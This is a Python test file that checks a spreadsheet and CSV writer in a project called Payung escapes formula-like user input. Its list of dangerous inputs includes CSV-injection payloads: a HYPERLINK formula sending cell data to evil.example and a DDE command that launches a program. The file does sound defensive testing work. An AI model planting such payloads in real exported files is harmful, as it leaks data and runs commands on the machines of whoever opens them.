"""What somebody typed is a text in every file that Payung writes: no formula, no link, no program."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

import payung
from payung.values.spreadsheet import CsvWriter, safe_cell, workbook

DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "=cmd|'/C calc'!A0",
    "+62811",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\tSiti",
]
HARMLESS = ["", "Siti", "0812", "Jl. Contoh 1 = 2", "a@b.id", "Rp5-10", 5, -5, 1.5, None, True]


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_text_that_would_run_becomes_a_text(text):
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize("value", HARMLESS)
def test_anything_else_stays_as_it_is(value):
    assert safe_cell(value) is value


@given(
    st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1, max_size=4), min_size=1)
)
def test_no_cell_of_a_written_csv_begins_like_a_formula_and_no_text_is_lost(rows):
    file = io.StringIO(newline="")
    CsvWriter(file).writerows(rows)
    file.seek(0)
    back = list(csv.reader(file))
    assert len(back) == len(rows)
    for sent, got in zip(rows, back, strict=True):
        for before, after in zip(sent, got, strict=True):
            assert after in (before, f"'{before}")
            assert not re.match(r"[\s\u200b\ufeff\x00]*[=+\-@\uff1d\uff0b\uff0d\uff20]", after)


def test_a_workbook_keeps_texts_as_texts():
    content = io.BytesIO()
    with workbook(content) as book:
        book.add_worksheet().write_row(0, 0, [*DANGEROUS[:6], "http://contoh.id", "6571010101800001"])
    cells = next(openpyxl.load_workbook(content).active.iter_rows())
    assert [cell.data_type for cell in cells] == ["s"] * 8
    assert all(cell.hyperlink is None for cell in cells)


#: Not written for a spreadsheet: staging into the database, a hash of the input, the synthetic province's own lists.
ELSEWHERE = {"values/spreadsheet.py", "coverage/bulk.py", "funding/plans.py", "funding/plan_input.py"}
MADE_SAFE_BEFORE = {"cli/law_population.py"}


_WRITES = re.compile(r"csv\.writer|DictWriter|xlsxwriter\.Workbook\(|\.write_csv\(|write_excel")


def test_every_csv_and_workbook_is_written_by_the_one_writer():
    root = Path(payung.__file__).parent
    found = {
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if re.search(
            r"csv\.writer|DictWriter|xlsxwriter\.Workbook\(|\.write_csv\(|write_excel",
            path.read_text("utf-8"),
        )
    }
    assert {name for name in found if not name.startswith("province/")} == ELSEWHERE | MADE_SAFE_BEFORE
